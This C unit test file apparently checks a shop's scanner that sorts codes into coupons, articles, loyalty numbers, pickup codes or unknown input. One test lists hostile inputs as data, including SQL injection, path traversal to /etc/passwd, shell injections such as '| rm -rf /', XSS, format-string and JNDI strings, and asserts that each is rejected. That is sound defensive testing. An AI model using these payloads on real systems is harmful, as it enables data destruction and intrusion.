/* What a code is: coupon, article, loyalty number, pickup code, misread or unknown; and nothing else ever. */
#include "sample.h"

static void a_coupon_goes_first(void **state)
{
    struct sample *s = *state;
    struct presented out;
    char text[COUPON_DIGITS_MAX + 16];
    assert_int_equal(scan_text(s->digits, &out), 0);
    assert_int_equal(out.kind, PRESENTED_COUPON);
    assert_int_equal(out.coupon.coupon.index, 345);
    assert_memory_equal(out.coupon.raw, s->raw, s->raw_n);
    (void)snprintf(text, sizeof text, "]Q1%s\r\n", s->digits);
    assert_int_equal(scan_text(text, &out), 0);
    assert_int_equal(out.kind, PRESENTED_COUPON);
    assert_int_equal(read_bytes(s->raw, s->raw_n, false, &out), 0);
    assert_int_equal(out.kind, PRESENTED_COUPON);
    /* even where the shop's loyalty numbers begin like it */
    const struct bytes prefix = bytes_str("8");
    const struct present_rules rules = {false, &prefix, 1};
    assert_int_equal(present_read(bytes_str(s->digits), &rules, &out), 0);
    assert_int_equal(out.kind, PRESENTED_COUPON);
}

static void a_damaged_coupon_is_misread(void **state)
{
    struct sample *s = *state;
    struct presented out;
    char text[COUPON_DIGITS_MAX + 1];
    for (size_t cut = 15; cut < s->digits_n; cut++) {
        assert_int_equal(read_bytes(s->digits, cut, false, &out), TP_MISREAD);
        assert_int_equal(read_bytes(s->digits, cut, true, &out), TP_MISREAD);
    }
    memcpy(text, s->digits, s->digits_n + 1);
    text[30] = 'O';
    assert_int_equal(scan_text(text, &out), TP_MISREAD);
    assert_int_equal(read_bytes(s->raw, s->raw_n - 1, false, &out), TP_MISREAD);
    assert_int_equal(scan_text("80701", &out), TP_MISREAD);
    assert_int_equal(scan_text("8070", &out), TP_UNKNOWN_CODE);
}

/* 807 is Italy's too: an article's whole number is an article. */
static void an_article_may_begin_like_a_coupon(void **state)
{
    struct presented out;
    (void)state;
    is_product("8070100000004", "08070100000004");
    assert_int_equal(scan_text("8070100000005", &out), TP_MISREAD);
}

static void articles_have_their_check_digit(void **state)
{
    static const struct {
        const char *text, *gtin;
    } good[] = {
        {"4006381333931", "04006381333931"},      {"73513537", "00000073513537"},
        {"036000291452", "00036000291452"},       {"09506000134352", "09506000134352"},
        {" 4006381333931\r\n", "04006381333931"}, {"]E04006381333931\r", "04006381333931"},
        {"]e04006381333931", "04006381333931"},   {"]E473513537\n", "00000073513537"},
        {"]E00036000291452", "00036000291452"},   {"4 006381 333931", "04006381333931"},
    };
    (void)state;
    for (size_t i = 0; i < sizeof good / sizeof *good; i++) {
        is_product(good[i].text, good[i].gtin);
    }
}

/* Any one wrong digit, and any neighbours in the wrong order unless they differ by 5. */
static void one_wrong_digit_is_not_an_article(void **state)
{
    static const char right[] = "4006381333931";
    struct presented out;
    (void)state;
    for (size_t i = 0; i < 13; i++) {
        for (char d = '0'; d <= '9'; d++) {
            char text[] = "]E04006381333931";
            text[3 + i] = d;
            assert_int_equal(scan_text(text, &out), d == right[i] ? 0 : TP_MISREAD);
            assert_int_equal(scan_text(text + 3, &out), d == right[i] ? 0 : TP_UNKNOWN_CODE);
        }
    }
    for (size_t i = 0; i + 1 < 13; i++) {
        char text[] = "4006381333931", first = text[i];
        int apart = text[i] - text[i + 1];
        text[i] = text[i + 1];
        text[i + 1] = first;
        assert_int_equal(scan_text(text, &out), apart % 5 == 0 ? 0 : TP_UNKNOWN_CODE);
    }
}

/* Only the symbol that always carries a check digit tells of a bad reading. */
static void a_wrong_check_digit_is_misread_in_an_ean_symbol_alone(void **state)
{
    struct presented out;
    (void)state;
    assert_int_equal(scan_text("]E473513538", &out), TP_MISREAD);
    assert_int_equal(scan_text("]E0036000291453", &out), TP_MISREAD);
    assert_int_equal(scan_text("]C04006381333932", &out), TP_UNKNOWN_CODE);
    assert_int_equal(scan_text("]Q14006381333932", &out), TP_UNKNOWN_CODE);
    assert_int_equal(scan_text("]E0400638133393", &out), TP_MISREAD); /* 12 digits, and not theirs */
    assert_int_equal(scan_text("]E040063813339", &out), TP_UNKNOWN_CODE);
    assert_int_equal(scan_text("]E4400638", &out), TP_UNKNOWN_CODE);
}

static void gs1_codes_name_their_article(void **state)
{
    static const char *const good[] = {
        "]C10109506000134352",
        "]c10109506000134352",
        "]e00109506000134352",
        "]E00109506000134352",
        "]d2010950600013435210ABC\03517261231",
        "]Q30109506000134352\r\n",
        "https://id.gs1.org/01/09506000134352",
        "https://example.com/01/9506000134352",
        "HTTP://EXAMPLE.COM/01/09506000134352/10/ABC?17=261231#top",
        "https://example.com/some/path/01/09506000134352?x=/01/1",
        "]Q1https://example.com/01/09506000134352\n",
    };
    static const char *const bad[] = {
        "0109506000134352",
        "]C00109506000134352",
        "]C10109506000134353",
        "]C1010950600013435",
        "]C10209506000134352",
        "]C10109506000134352\x01",
        "]C101 0950600013435",
        "https://example.com/01/09506000134353",
        "https://example.com/01/095060001343521",
        "https://example.com/01/09506000134352x",
        "https://example.com/02/09506000134352",
        "https://example.com/?/01/09506000134352",
        "https://example.com/#/01/09506000134352",
        "https:///01/09506000134352",
        "https://example.com",
        "https://exa mple.com/01/09506000134352",
        "ftp://example.com/01/09506000134352",
        "/01/09506000134352",
        "https://example.com/01/",
    };
    (void)state;
    for (size_t i = 0; i < sizeof good / sizeof *good; i++) {
        is_product(good[i], "09506000134352");
    }
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
        is_unknown(bad[i]);
    }
}

static void other_numbers_are_unknown(void **state)
{
    static const char *const bad[] = {"1",          "1234567",         "123456784",       "12345678905",
                                      "0123456789", "123456789012347", "4006381333931-1", "4006381333931x",
                                      "-73513537",  "+73513537",       "73513537.0",      "0x73513537",
                                      "7351\r3537", "7351\t3537",      "\xD9\xA7",        "4006381333932"};
    struct presented out;
    (void)state;
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
        assert_int_equal(scan_text(bad[i], &out), TP_UNKNOWN_CODE);
    }
}

static void loyalty_numbers_begin_as_the_policy_says(void **state)
{
    struct presented out;
    static const char text[] = "]C0KD-000017\r\n";
    (void)state;
    assert_int_equal(scan_text(text, &out), 0);
    assert_int_equal(out.kind, PRESENTED_LOYALTY);
    assert_true(bytes_is(out.token, "KD-000017"));
    assert_ptr_equal(out.token.p, text + 3);
    assert_int_equal(type_text("KD-", &out), 0);
    assert_int_equal(out.kind, PRESENTED_LOYALTY);
    /* an article's number with the prefix is the shop's own */
    assert_int_equal(scan_text("]E02600000000003", &out), 0);
    assert_int_equal(out.kind, PRESENTED_LOYALTY);
    is_unknown("kd-000017");
    is_unknown("XKD-1");
    is_unknown("KD");
    is_unknown("KD-1 2");
    is_unknown("KD-\x01");
    is_unknown("KD-\xC3\xA9");
}

static void a_loyalty_number_is_as_short_as_a_card_token(void **state)
{
    char text[CARD_TOKEN_MAX + 2] = "KD-";
    struct presented out;
    (void)state;
    memset(text + 3, 'x', sizeof text - 4);
    assert_int_equal(scan_text(text, &out), TP_UNKNOWN_CODE);
    text[CARD_TOKEN_MAX] = '\0';
    assert_int_equal(scan_text(text, &out), 0);
    assert_int_equal(out.token.n, CARD_TOKEN_MAX);
}

/* A policy without prefixes has no loyalty numbers, and an empty prefix is none. */
static void without_prefixes_nothing_is_a_loyalty_number(void **state)
{
    const struct bytes empty = bytes_str("");
    const struct present_rules none = {false, NULL, 0}, nothing = {false, &empty, 1};
    struct presented out;
    (void)state;
    assert_int_equal(present_read(bytes_str("KD-000017"), &none, &out), TP_UNKNOWN_CODE);
    assert_int_equal(present_read(bytes_str("KD-000017"), &nothing, &out), TP_UNKNOWN_CODE);
}

static void nine_typed_digits_are_a_pickup_code(void **state)
{
    static const char *const typed[] = {"123456789", "123 456 789", " 1 2 3 4 5 6 7 8 9\r\n"};
    struct presented out;
    (void)state;
    for (size_t i = 0; i < 3; i++) {
        assert_int_equal(type_text(typed[i], &out), 0);
        assert_int_equal(out.kind, PRESENTED_PICKUP);
        assert_string_equal(out.pickup, "123456789");
        assert_int_equal(scan_text(typed[i], &out), TP_UNKNOWN_CODE);
    }
    assert_int_equal(type_text("26 345 6789", &out), 0); /* it may begin like a loyalty number */
    assert_int_equal(out.kind, PRESENTED_PICKUP);
    assert_int_equal(type_text("000000000", &out), 0);
    is_unknown("12345678");
    is_unknown("1234567890");
    is_unknown("12345678a");
    is_unknown("123-456-789");
    is_unknown("\xEF\xBC\x91"
               "23456789");
}

/* Scanned text is data: nothing here can be told from any other unknown code. */
static void hostile_text_is_unknown(void **state)
{
    static const char *const hostile[] = {
        "%s%s%s%s%n",
        "%1$*2147483647$x",
        "'; DROP TABLE pickup; --",
        "1 OR 1=1",
        "\" UNION SELECT card_key FROM shop",
        "../../../../etc/passwd",
        "/dev/zero",
        "file:///etc/passwd",
        "C:\\Windows\\System32",
        "$(reboot)",
        "`reboot`",
        "| rm -rf /",
        "&& reboot",
        "\x1B[2J\x1B]0;title\x07",
        "\x1BP1;2q",
        "\x9B\x31m",
        "\x02STX\x03",
        "\x16\x4D\x0D%%%VER.",
        "<script>alert(1)</script>",
        "{\"kind\":\"coupon\"}",
        "javascript:alert(1)",
        "\xFF\xFE\x41",
        "\xC0\xAF..\xC0\xAF",
        "\342\200\25613933318360",
        "${jndi:ldap://example.com/a}",
        "]",
        "]Q",
        "]Q1",
        "]]]",
        "-",
        "--help",
        "%",
        "\\0",
    };
    (void)state;
    for (size_t i = 0; i < sizeof hostile / sizeof *hostile; i++) {
        is_unknown(hostile[i]);
    }
}

static void a_zero_byte_ends_nothing(void **state)
{
    static const char inside[] = "4006381333931\0",
                      before[] = "\0"
                                 "4006381333931",
                      card[] = "KD-1\0", pickup[] = "123456789\0";
    struct presented out;
    (void)state;
    assert_int_equal(read_bytes(inside, sizeof inside - 1, false, &out), TP_UNKNOWN_CODE);
    assert_int_equal(read_bytes(before, sizeof before - 1, false, &out), TP_UNKNOWN_CODE);
    assert_int_equal(read_bytes(card, sizeof card - 1, false, &out), TP_UNKNOWN_CODE);
    assert_int_equal(read_bytes(pickup, sizeof pickup - 1, true, &out), TP_UNKNOWN_CODE);
}

/* Every length up to the most, of every byte; and one more. */
static void long_scans_are_unknown(void **state)
{
    static uint8_t in[SCAN_MAX + 1];
    struct presented out;
    (void)state;
    for (int c = 0; c < 256; c++) {
        if (c == 0xD2) {
            continue; /* begins a COSE message */
        }
        memset(in, c, sizeof in);
        for (size_t n = 65; n <= SCAN_MAX; n = n < 100 ? n + 1 : n * 2) {
            assert_int_equal(read_bytes(in, n, false, &out), TP_UNKNOWN_CODE);
        }
        assert_int_equal(read_bytes(in, SCAN_MAX, true, &out), TP_UNKNOWN_CODE);
        assert_int_equal(read_bytes(in, SCAN_MAX + 1, false, &out), TP_UNKNOWN_CODE);
    }
    memset(in, 0xD2, sizeof in);
    assert_int_equal(read_bytes(in, SCAN_MAX, false, &out), TP_MISREAD);
    assert_int_equal(read_bytes(in, 0, false, &out), TP_UNKNOWN_CODE);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_coupon_goes_first),
        cmocka_unit_test(a_damaged_coupon_is_misread),
        cmocka_unit_test(an_article_may_begin_like_a_coupon),
        cmocka_unit_test(articles_have_their_check_digit),
        cmocka_unit_test(one_wrong_digit_is_not_an_article),
        cmocka_unit_test(a_wrong_check_digit_is_misread_in_an_ean_symbol_alone),
        cmocka_unit_test(gs1_codes_name_their_article),
        cmocka_unit_test(other_numbers_are_unknown),
        cmocka_unit_test(loyalty_numbers_begin_as_the_policy_says),
        cmocka_unit_test(a_loyalty_number_is_as_short_as_a_card_token),
        cmocka_unit_test(without_prefixes_nothing_is_a_loyalty_number),
        cmocka_unit_test(nine_typed_digits_are_a_pickup_code),
        cmocka_unit_test(hostile_text_is_unknown),
        cmocka_unit_test(a_zero_byte_ends_nothing),
        cmocka_unit_test(long_scans_are_unknown),
    };
    return cmocka_run_group_tests(tests, sample_make, sample_free);
}
